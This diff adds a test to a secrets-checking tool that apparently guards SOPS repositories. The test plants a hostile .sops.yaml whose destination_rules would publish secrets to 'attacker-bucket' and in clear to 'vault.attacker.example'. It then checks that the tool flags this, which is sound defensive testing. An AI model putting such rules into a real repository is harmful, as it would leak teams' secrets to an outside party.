@@ -145,6 +145,40 @@ describe("hush check --base: a branch that names a recipient of its own in .sops
   });
 });
 
+describe("hush check --base: destination_rules, which only `sops publish` reads", () => {
+  it("a branch's new or changed destination_rules are a finding on its .sops.yaml; the base's own are not", () => {
+    const repo = setUpCoveredRepo(sb, "destination-rules");
+    const mallory = createAgeKey(sb, "destination-rules-mallory");
+    const config = readFileSync(join(repo, ".sops.yaml"), "utf8");
+    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
+    // A key holder's `sops publish` would send the files re-encrypted to mallory, and the Vault
+    // destination their plaintext with the key holder's Vault token.
+    writeFileSync(
+      join(repo, ".sops.yaml"),
+      `${config}destination_rules:\n  - path_regex: ^secrets/\n    s3_bucket: attacker-bucket\n    recreation_rule:\n      age: ${mallory.recipient}\n  - path_regex: ^secrets/\n    vault_address: https://vault.attacker.example\n    vault_path: kv/\n`,
+    );
+    commitAll(sb, repo, "publish somewhere");
+    expectBaseWarning(
+      repo,
+      ".sops.yaml",
+      "destination-rules-changed",
+      ".sops.yaml: error: destination_rules that main:.sops.yaml does not have: `sops publish` by a key holder would send the files they cover, re-encrypted to the keys they name or in clear to the Vault they name, and hush reads them nowhere else; add them on the base branch first, in a change of .sops.yaml alone [destination-rules-changed]\n",
+    );
+    // Once the base has them, a branch that keeps them has nothing to report, and one that
+    // changes them does.
+    git(sb, repo, ["checkout", "-q", "main"]);
+    git(sb, repo, ["merge", "-q", "--ff-only", "pr"]);
+    git(sb, repo, ["checkout", "-q", "-b", "pr2"]);
+    writeEncrypted(sb, repo, "secrets/other.yaml", "password: destination-rules-2\n");
+    commitAll(sb, repo, "another secret");
+    expect(problemsOf(checkJson(repo, ["--strict", "--base", "main"]).report, ".sops.yaml")).toEqual([]);
+    writeFileSync(join(repo, ".sops.yaml"), readFileSync(join(repo, ".sops.yaml"), "utf8").replace("attacker-bucket", "other-bucket"));
+    commitAll(sb, repo, "another bucket");
+    const changed = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
+    expect(changed.stdout).toContain(".sops.yaml: warning: destination_rules that differ from those of main:.sops.yaml: `sops publish`");
+  });
+});
+
 describe("hush check --staged: a type change", () => {
   it("a covered path that was a link, staged as a plaintext file, is checked", () => {
     const repo = setUpCoveredRepo(sb, "type-change");
